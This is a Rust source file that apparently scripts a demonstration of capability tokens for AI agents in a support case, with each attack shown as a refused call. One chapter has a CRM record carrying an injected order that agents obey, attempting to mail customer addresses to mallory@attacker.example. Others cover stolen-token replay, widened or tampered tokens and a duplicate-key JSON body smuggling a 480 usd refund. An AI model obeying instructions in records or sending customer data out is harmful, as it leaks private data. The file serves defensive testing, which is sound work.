//! The support case: what the agents do with their tokens, chapter by chapter.

use super::agents::{Agents, PRINCIPAL, tampered, widened};
use super::call::{self, Call, Sent};
use super::report::Report;
use super::row::Row;
use super::tools::INJECTED;
use super::world::{Place, World};
use crate::model::Code;
use crate::present::Presentation;

pub(super) const ORCHESTRATOR: &str = "orchestrator";
const THIEF: &str = "thief";

/// What the tools may have done when all is over.
pub(super) const DEEDS: [&str; 2] =
    ["a refund of 42.50 usd on ch_1042", "a message to alice@example.com"];

/// Refunds of the right charge: one that the refund agent may make, one that it may not.
const USD_20: &str = r#"{"charge": "ch_1042", "amount": 20, "currency": "usd"}"#;
const USD_480: &str = r#"{"charge": "ch_1042", "amount": 480, "currency": "usd"}"#;

/// The story under way.
pub(super) struct Story<'a, 'b> {
    pub(super) world: &'a World,
    pub(super) report: &'a mut Report<'b>,
}

impl Story<'_, '_> {
    /// All of it; gives the number of records.
    pub(super) async fn tell(&mut self) -> anyhow::Result<u64> {
        let agents = self.one_task().await?;
        let copied = self.the_work(&agents).await?;
        self.beyond_the_task(&agents).await?;
        self.an_injected_order(&agents).await?;
        self.a_stolen_token(&agents, &copied).await?;
        self.a_hostile_agent(&agents).await?;
        self.one_agent_is_stopped(&agents).await?;
        self.the_task_ends(&agents).await?;
        self.the_records()
    }

    /// Gives what the refund agent sent, as somebody on the way copies it.
    async fn the_work(&mut self, agents: &Agents) -> anyhow::Result<Presentation> {
        self.report.chapter(
            "The work",
            "Offline, the orchestrator hands its token on: for reading, to one agent; for refunds \
             of this one charge up to 100 usd, at the payments gateway alone, to another. That one \
             hands 25 usd of it on to a helper. Each hop is signed, and each call proved, by its \
             holder's key.",
        )?;
        self.call(account().by(&agents.reader).answers(
            "/name",
            "Alice Moreau",
            "Alice Moreau's account",
        ))
        .await?;
        self.call(cases().by(&agents.reader).answers("/0/charge", "ch_1042", "one case")).await?;
        let body = r#"{"charge": "ch_1042", "amount": 42.5, "currency": "usd"}"#;
        let refund = refund("42.50 usd", body);
        let copied = call::proved(self.world, &refund, &agents.refunder)?;
        let sent = refund.sends(agents.refunder.name, Sent::Copied(&copied));
        self.call(sent.answers("/for", PRINCIPAL, "refunded, on Alice's behalf")).await?;
        let body = r#"{"to": "alice@example.com", "text": "Your 42.50 usd are on the way."}"#;
        let message = message("to alice@example.com", body).by(&agents.orchestrator);
        self.call(message.answers("/task", agents.task.as_str(), "sent")).await?;
        Ok(copied)
    }

    async fn beyond_the_task(&mut self, agents: &Agents) -> anyhow::Result<()> {
        self.report.chapter(
            "Nobody does more than was handed to them",
            "The task allows 500 usd, the refund agent's own check 100, this gateway's policy no \
             refund by whoever was handed the token second-hand.",
        )?;
        let over = refund("480 usd", USD_480).by(&agents.refunder).refused(Code::CheckFailed);
        self.call(Call { shows_check: true, ..over }).await?;
        let body = r#"{"charge": "ch_2001", "amount": 20, "currency": "usd"}"#;
        let other = refund("of another charge", body).by(&agents.refunder);
        self.call(other.refused(Code::CheckFailed)).await?;
        let second_hand = refund("20 usd", USD_20).by(&agents.helper);
        self.call(second_hand.refused(Code::PolicyDenied)).await
    }

    async fn an_injected_order(&mut self, agents: &Agents) -> anyhow::Result<()> {
        self.report.chapter(
            "A record gives orders",
            &format!(
                "The case says: \"{INJECTED}\" The agents fall for it, and the reader, who \
                 may write to nobody, tries Alice too."
            ),
        )?;
        self.call(customers().by(&agents.reader).refused(Code::NotGranted)).await?;
        let body = r#"{"to": "mallory@attacker.example", "text": "alice@example.com, …"}"#;
        for agent in [&agents.reader, &agents.orchestrator] {
            self.call(message("to mallory@…", body).by(agent).refused(Code::NotGranted)).await?;
        }
        let body = r#"{"to": "alice@example.com", "text": "bob@example.com, …"}"#;
        let told = message("to alice@example.com", body).by(&agents.reader);
        self.call(told.refused(Code::CheckFailed)).await
    }

    async fn a_stolen_token(
        &mut self,
        agents: &Agents,
        copied: &Presentation,
    ) -> anyhow::Result<()> {
        self.report.chapter(
            "A thief has copied the refund agent's token, and one of its calls",
            "The token is of no use without its holder's key, and a proof is good once, for one \
             call.",
        )?;
        let token = &agents.refunder.token;
        let call = refund("20 usd", USD_20).sends(THIEF, Sent::Token(token));
        self.call(call.refused(Code::ProofMissing)).await?;
        let body = r#"{"charge": "ch_1042", "amount": 42.5, "currency": "usd"}"#;
        let call = refund("the same once more", body).sends(THIEF, Sent::Copied(copied));
        self.call(call.refused(Code::ProofReplayed)).await?;
        let call = refund("the copied proof", USD_20).sends(THIEF, Sent::Copied(copied));
        self.call(call.refused(Code::ProofInvalid)).await?;
        self.call(account().sends(THIEF, Sent::Nothing).refused(Code::TokenMissing)).await
    }

    async fn a_hostile_agent(&mut self, agents: &Agents) -> anyhow::Result<()> {
        self.report.chapter(
            "The refund agent itself is taken over, key and all",
            "Whatever is appended only takes away, whatever is changed breaks a signature, and \
             what can be read in two ways is not read at all.",
        )?;
        let agent = &agents.refunder;
        let widened = agent.with(widened(&agent.token)?);
        let call = refund("a block grants all", USD_480).by(&widened);
        self.call(call.refused(Code::CheckFailed)).await?;
        let tampered = agent.with(tampered(&agent.token)?);
        let body = r#"{"charge": "ch_1043", "amount": 20, "currency": "usd"}"#;
        let call = refund("one bit flipped", body).by(&tampered);
        self.call(call.refused(Code::SignatureInvalid)).await?;
        let body = r#"{"charge": "ch_1042", "amount": 20, "amount": 480, "currency": "usd"}"#;
        let call = refund("20 usd, and 480 usd", body).by(agent);
        self.call(call.refused(Code::RequestMalformed)).await?;
        self.call(account().by(agent).refused(Code::AudienceMismatch)).await
    }

    /// The refund agent and its helper are out, the reader goes on.
    pub(super) async fn after_the_stop(&mut self, agents: &Agents) -> anyhow::Result<()> {
        for agent in [&agents.refunder, &agents.helper] {
            self.call(refund("20 usd", USD_20).by(agent).refused(Code::Revoked)).await?;
        }
        self.call(account().by(&agents.reader).answers(
            "/name",
            "Alice Moreau",
            "Alice Moreau's account",
        ))
        .await
    }

    /// Nobody is left.
    pub(super) async fn after_the_end(&mut self, agents: &Agents) -> anyhow::Result<()> {
        self.call(account().by(&agents.reader).refused(Code::Revoked)).await?;
        let body = r#"{"to": "alice@example.com", "text": "One more thing."}"#;
        let message = message("to alice@example.com", body).by(&agents.orchestrator);
        self.call(message.refused(Code::Revoked)).await
    }

    async fn call(&mut self, call: Call<'_>) -> anyhow::Result<()> {
        let row = call::make(self.world, call).await?;
        self.step(row)
    }

    pub(super) fn step(&mut self, row: Row) -> anyhow::Result<()> {
        self.report.step(row)
    }
}

fn account<'a>() -> Call<'a> {
    let call = Call::new("crm/get_account", Place::Crm, "/accounts/acct_7");
    Call { with: "acct_7", args: r#"{"id": "acct_7"}"#, ..call }
}

fn cases<'a>() -> Call<'a> {
    let call = Call::new("crm/list_cases", Place::Crm, "/cases?account=acct_7");
    Call { with: "of acct_7", args: r#"{"account": "acct_7"}"#, ..call }
}

fn customers<'a>() -> Call<'a> {
    Call { with: "all of them", ..Call::new("crm/list_customers", Place::Crm, "/customers") }
}

fn refund<'a>(with: &'static str, body: &'static str) -> Call<'a> {
    let call = Call::new("stripe/refund", Place::Payments, "/refunds");
    Call { with, body: Some(body), ..call }
}

fn message<'a>(with: &'static str, body: &'static str) -> Call<'a> {
    let call = Call::new("messaging/send", Place::Messaging, "/messages");
    Call { with, body: Some(body), ..call }
}
